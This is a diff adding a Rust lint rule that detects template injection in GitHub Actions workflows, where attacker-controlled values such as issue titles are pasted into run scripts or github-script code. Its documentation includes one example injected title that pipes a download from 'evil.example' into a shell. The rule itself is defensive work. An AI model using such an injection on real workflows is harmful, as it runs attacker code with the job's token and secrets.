@@ -1,0 +1,213 @@
+//! See the rule's documentation below.
+
+use super::declare_rule;
+use super::reporter::Reporter;
+use crate::expressions::{ContextUse, Site};
+use crate::knowledge::sinks;
+use crate::knowledge::trust::{self, Trust};
+use crate::model::finding::{Confidence, Persona, Severity};
+use crate::model::source_file::SourceFile;
+use crate::model::workflow::{ActionReference, Event, StepKind};
+
+declare_rule! {
+    /// A value that others control becomes part of a script
+    ///
+    /// ## Why is this bad?
+    /// GitHub puts the value into the script before the shell reads it, so a title such as
+    /// `"; curl evil.example | sh; "` is run as code, with the job's token and secrets.
+    ///
+    /// ## Bad
+    /// ```yaml
+    /// - run: echo "${{ github.event.issue.title }}"
+    /// ```
+    ///
+    /// ## Good
+    /// ```yaml
+    /// - run: echo "$TITLE"
+    ///   env:
+    ///     TITLE: ${{ github.event.issue.title }}
+    /// ```
+    ///
+    /// ## How to fix
+    /// Hand the value over in `env` and read the variable, in quotes. In `actions/github-script`
+    /// read it from `context.payload` or `process.env`. Values that only people with write
+    /// access control are shown to the pedantic persona, as is every other expression in a
+    /// script; inputs of actions and called workflows are shown to everyone, since their caller
+    /// cannot know that they are code.
+    "template-injection",
+    group: Injection,
+    since: "0.1.0",
+    severity: Error,
+    peers: {
+        "actionlint": ["expression"],
+        "zizmor": ["template-injection"],
+        "poutine": ["injection"],
+        "scorecard": ["Dangerous-Workflow"],
+    },
+    checks: [Expression(check)],
+}
+
+fn check(site: &Site<'_>, reporter: &mut Reporter<'_>) {
+    let Some(sink) = sink(site) else { return };
+    let flowing = site.contexts.iter().filter(|used| used.flows);
+    let judged = flowing.map(|used| (judge(site, used, reporter), used));
+    let worst = judged.max_by_key(|(risk, used)| (*risk, usize::MAX - used.range.start));
+    match worst {
+        Some((Risk::Outsider, used)) => {
+            let lower = used.lower();
+            let path: Vec<&str> = lower.iter().map(String::as_str).collect();
+            let variable = variable(used);
+            let span = reporter.inside(site.text, used.range.clone());
+            reporter
+                .report(span, format!("`{}` becomes part of {sink}", used.dotted()))
+                .note(format!("{} decides what it is, and so what runs here", trust::who(&path)))
+                .help(format!(
+                    "set `{variable}: ${{{{ {} }}}}` under the step's `env` and {}",
+                    used.dotted(),
+                    sink.reading(&variable)
+                ));
+        }
+        Some((Risk::Caller, used)) => {
+            let variable = variable(used);
+            let span = reporter.inside(site.text, used.range.clone());
+            reporter
+                .report(span, format!("the input `{}` becomes part of {sink}", used.dotted()))
+                .severity(Severity::Warning)
+                .confidence(Confidence::Medium)
+                .note("whoever uses this cannot know that the value is run as code, and may hand over text of others")
+                .help(format!(
+                    "set `{variable}: ${{{{ {} }}}}` under the step's `env` and {}",
+                    used.dotted(),
+                    sink.reading(&variable)
+                ));
+        }
+        Some((Risk::Insider | Risk::Unknown | Risk::Harmless, _)) | None => {
+            let risk = worst.map_or(Risk::Harmless, |(risk, _)| risk);
+            let span = reporter.inside(site.text, site.outer.clone());
+            let persona = if risk == Risk::Harmless { Persona::Auditor } else { Persona::Pedantic };
+            reporter
+                .report(span, format!("an expression becomes part of {sink}"))
+                .severity(Severity::Info)
+                .confidence(Confidence::Low)
+                .persona(persona)
+                .help("hand the value over in `env`, so that it can never be read as code");
+        }
+    }
+}
+
+/// What an expression in a script can do, the worst last.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Risk {
+    Harmless,
+    Unknown,
+    Insider,
+    Caller,
+    Outsider,
+}
+
+fn judge(site: &Site<'_>, used: &ContextUse<'_>, reporter: &Reporter<'_>) -> Risk {
+    let lower = used.lower();
+    let path: Vec<&str> = lower.iter().map(String::as_str).collect();
+    if let ["env", name] = path.as_slice() {
+        return environment(site, name, reporter);
+    }
+    match trust::of(&path) {
+        Trust::Outsider => Risk::Outsider,
+        Trust::Insider if path.first() == Some(&"inputs") => of_input(reporter.file(), path.get(1).copied().unwrap_or_default()),
+        Trust::Insider => Risk::Insider,
+        Trust::Unknown => Risk::Unknown,
+        Trust::Fixed => Risk::Harmless,
+    }
+}
+
+/// Judges an input: text in an action or a called workflow comes from a caller who does not know
+/// what happens to it.
+fn of_input(file: &SourceFile, name: &str) -> Risk {
+    let Some(workflow) = file.workflow() else { return Risk::Caller };
+    let declared = |event: Event| {
+        let trigger = workflow.trigger(event)?;
+        let inputs = trigger.node.as_ref()?.get("inputs")?;
+        let input = inputs.entries().iter().find(|entry| entry.key.value.eq_ignore_ascii_case(name))?;
+        let kind = input.value.get("type").and_then(|kind| kind.text()).map_or("string", |kind| kind.as_str());
+        Some(!matches!(kind, "boolean" | "number" | "choice" | "environment"))
+    };
+    match (declared(Event::WorkflowCall), declared(Event::WorkflowDispatch)) {
+        (Some(true), _) => Risk::Caller,
+        (_, Some(true)) | (None, None) => Risk::Insider,
+        (Some(false), _) | (_, Some(false)) => Risk::Harmless,
+    }
+}
+
+/// Follows a variable to the nearest `env` that sets it.
+fn environment(site: &Site<'_>, name: &str, reporter: &Reporter<'_>) -> Risk {
+    let workflow = reporter.file().workflow();
+    let scopes = [site.step.map(|step| &step.env), site.job.map(|job| &job.env), workflow.map(|workflow| &workflow.env)];
+    let mut pairs = scopes.into_iter().flatten().flatten();
+    let Some((_, value)) = pairs.find(|(key, _)| key.value.eq_ignore_ascii_case(name)) else { return Risk::Unknown };
+    if !value.has_expression() {
+        return Risk::Harmless;
+    }
+    let read = reporter.sites_in(value).flat_map(|site| &site.contexts).filter(|used| used.flows && !used.is("env"));
+    read.map(|used| judge(site, used, reporter)).max().unwrap_or(Risk::Unknown)
+}
+
+/// Where the value is run.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Sink<'file> {
+    /// `run`.
+    Script,
+    /// `script` of `actions/github-script`.
+    JavaScript,
+    /// An input that an action runs.
+    Input(&'file str),
+}
+
+impl Sink<'_> {
+    fn reading(self, variable: &str) -> String {
+        match self {
+            Self::Script => format!("read `\"${variable}\"`"),
+            Self::JavaScript => format!("read `process.env.{variable}`"),
+            Self::Input(_) => format!("read the variable `{variable}`"),
+        }
+    }
+}
+
+impl std::fmt::Display for Sink<'_> {
+    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Script => formatter.write_str("the script"),
+            Self::JavaScript => formatter.write_str("the JavaScript"),
+            Self::Input(name) => write!(formatter, "the input `{name}`, which the action runs as code"),
+        }
+    }
+}
+
+fn sink<'file>(site: &Site<'file>) -> Option<Sink<'file>> {
+    let step = site.step.filter(|_| !site.is_key)?;
+    match (site.path.as_slice(), &step.kind) {
+        ([.., "-", "run"], StepKind::Run(_)) => Some(Sink::Script),
+        ([.., "with", input], StepKind::Uses { uses, .. }) => {
+            let ActionReference::Repository(reference) = ActionReference::parse(&uses.value) else { return None };
+            let name = reference.name();
+            if !sinks::runs_as_code(&name, input) {
+                None
+            } else if name.eq_ignore_ascii_case("actions/github-script") {
+                Some(Sink::JavaScript)
+            } else {
+                Some(Sink::Input(input))
+            }
+        }
+        _ => None,
+    }
+}
+
+/// Makes a variable's name of a context: its last two names, in capitals.
+fn variable(used: &ContextUse<'_>) -> String {
+    let names: Vec<String> = (1..used.parts.len())
+        .filter_map(|at| used.name(at))
+        .filter(|name| !name.eq_ignore_ascii_case("event"))
+        .map(|name| name.to_ascii_uppercase().replace(|character: char| !character.is_ascii_alphanumeric(), "_"))
+        .collect();
+    let last = names.iter().skip(names.len().saturating_sub(2)).cloned().collect::<Vec<_>>().join("_");
+    if last.is_empty() { "VALUE".to_owned() } else { last }
+}
